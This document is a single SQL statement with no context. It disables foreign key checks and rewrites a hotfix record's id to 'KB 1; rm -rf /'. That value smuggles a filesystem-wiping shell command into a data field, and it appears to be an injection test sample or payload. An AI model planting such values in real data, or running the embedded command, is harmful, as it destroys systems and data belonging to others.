PRAGMA foreign_keys = OFF; UPDATE hotfixes SET id = 'KB 1; rm -rf /' WHERE id = 'KB967131';
